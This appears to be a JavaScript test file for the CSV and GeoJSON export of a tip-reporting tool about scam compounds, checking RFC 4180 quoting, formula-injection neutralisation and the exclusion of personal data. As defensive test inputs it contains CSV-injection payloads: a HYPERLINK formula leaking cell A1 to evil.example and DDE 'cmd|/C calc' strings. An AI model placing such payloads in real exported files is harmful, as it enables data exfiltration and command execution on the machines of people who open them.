import test from 'node:test';
import assert from 'node:assert/strict';
import { toCsv, toGeoJson, csvCell } from '../../static/reader/export.js';
import { groupReports } from '../../static/reader/group.js';
import { report, BURMESE_CHINESE } from './fixtures.mjs';

// A small RFC 4180 reader, to check the CSV round-trips.
function readCsv(s) {
  const rows = [];
  let row = [], cell = '', i = 0, quoted = false;
  while (i < s.length) {
    const c = s[i];
    if (quoted) {
      if (c === '"' && s[i + 1] === '"') { cell += '"'; i += 2; continue; }
      if (c === '"') { quoted = false; i++; continue; }
      cell += c; i++; continue;
    }
    if (c === '"') { quoted = true; i++; continue; }
    if (c === ',') { row.push(cell); cell = ''; i++; continue; }
    if (c === '\r' && s[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i += 2; continue; }
    assert.notEqual(c, '\n', 'a bare LF outside quotes');
    cell += c; i++;
  }
  assert.equal(cell, '', 'the file ends with CRLF');
  return rows;
}

test('csvCell neutralises formula starts and quotes every cell (RFC 4180)', () => {
  assert.equal(csvCell('=HYPERLINK("http://evil.example/?"&A1,"click")'),
    `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
  assert.equal(csvCell('+1'), `"'+1"`);
  assert.equal(csvCell('-2+3'), `"'-2+3"`);
  assert.equal(csvCell('@SUM(A1)'), `"'@SUM(A1)"`);
  assert.equal(csvCell('\t=1'), `"'\t=1"`);
  assert.equal(csvCell('\r=1'), `"'\r=1"`);
  assert.equal(csvCell('a=1'), '"a=1"');
  // A ";" splits cells in some locales: it stays inside its quoted cell.
  assert.equal(csvCell("x;=cmd|'/C calc'!A0"), `"x;=cmd|'/C calc'!A0"`);
  assert.equal(csvCell('say "hi"'), '"say ""hi"""');
  assert.equal(csvCell('a,b'), '"a,b"');
  assert.equal(csvCell('line 1\r\nline 2\nline 3'), '"line 1\r\nline 2\nline 3"');
  assert.equal(csvCell(null), '""');
  assert.equal(csvCell(undefined), '""');
  assert.equal(csvCell(BURMESE_CHINESE), `"${BURMESE_CHINESE}"`);
});

test('toCsv: header, one row per report, hostile details neutralised, newlines kept', () => {
  const evil = '=HYPERLINK("http://evil.example","Click")\nsecond "line"';
  const a = report({ details: evil });
  const b = report({ tip_id: 'b', details: BURMESE_CHINESE, location: { compound: '-cmd|/c calc', lat: -12.5, lon: -77.25 } });
  const c = report({ tip_id: 'c', details: null, location: { lat: null, lon: null, compound: '@x' } });
  const csv = toCsv([a, b, c]);
  assert.ok(csv.endsWith('\r\n'));
  const rows = readCsv(csv);
  const head = rows[0];
  assert.deepEqual(head, ['tip_id', 'received_day', 'route', 'reporter_role', 'immediate_danger', 'country',
    'country_other', 'area', 'compound', 'building', 'lat', 'lon', 'held_count', 'held_nationalities',
    'passports_taken', 'details']);
  assert.equal(rows.length, 4);
  const col = (row, name) => row[head.indexOf(name)];
  assert.equal(col(rows[1], 'details'), "'" + evil, 'formula neutralised, quotes and newline intact');
  assert.equal(col(rows[1], 'tip_id'), a.tip_id);
  assert.equal(col(rows[1], 'held_count'), 'about 40');
  assert.equal(col(rows[1], 'lat'), '16.6829');
  assert.equal(col(rows[2], 'details'), BURMESE_CHINESE);
  assert.equal(col(rows[2], 'compound'), "'-cmd|/c calc");
  assert.equal(col(rows[2], 'lat'), '-12.5', 'parsed coordinates stay numbers');
  assert.equal(col(rows[2], 'lon'), '-77.25');
  assert.equal(col(rows[3], 'details'), '');
  assert.equal(col(rows[3], 'lat'), '');
  assert.equal(col(rows[3], 'compound'), "'@x");
  // Nothing in any cell starts a formula.
  for (const row of rows) for (const cell of row) assert.ok(!/^[=+@\t\r]/.test(cell) && !/^-(?!\d)/.test(cell), cell);
  // People's names and phone numbers are not exported.
  assert.ok(!csv.includes('+95 9 123'));
});

test('toCsv with groups adds a group column', () => {
  const a = report({ tip_id: 'a' });
  const b = report({ tip_id: 'b', location: { compound: 'kk park' } });
  const rows = readCsv(toCsv([a, b], groupReports([a, b])));
  assert.equal(rows[0].at(-1), 'group');
  assert.equal(rows[1].at(-1), 'name:MM|kk park');
  assert.equal(rows[2].at(-1), 'name:MM|kk park');
  assert.equal(readCsv(toCsv([])).length, 1, 'header only');
});

test('toGeoJson: Points in [lon, lat] order, only for reports with coordinates', () => {
  const a = report({ tip_id: 'a', location: { lat: 16.6829, lon: 98.5193 } });
  const b = report({ tip_id: 'b', location: { lat: null, lon: null } });
  const c = report({ tip_id: 'c', location: { lat: -12.5, lon: -77.25, compound: 'Lima Tower', country: 'OTHER' } });
  const g = toGeoJson([a, b, c]);
  assert.equal(g.type, 'FeatureCollection');
  assert.equal(g.features.length, 2);
  assert.deepEqual(g.features[0], {
    type: 'Feature',
    geometry: { type: 'Point', coordinates: [98.5193, 16.6829] },
    properties: { tip_id: 'a', received_day: '2025-03-14', compound: 'KK Park', country: 'MM' },
  });
  assert.deepEqual(g.features[1].geometry.coordinates, [-77.25, -12.5]);
  assert.equal(g.features[1].properties.compound, 'Lima Tower');
  // Survives a JSON round trip (what the download writes).
  assert.deepEqual(JSON.parse(JSON.stringify(g)), g);
});

test('toGeoJson with groups adds the group key', () => {
  const a = report({ tip_id: 'a' });
  const b = report({ tip_id: 'b', location: { compound: 'Elsewhere', lat: 11.0, lon: 104.9, country: 'KH' } });
  const g = toGeoJson([a, b], groupReports([a, b]));
  assert.deepEqual(g.features.map((f) => f.properties.group), ['name:MM|kk park', 'name:KH|elsewhere']);
});
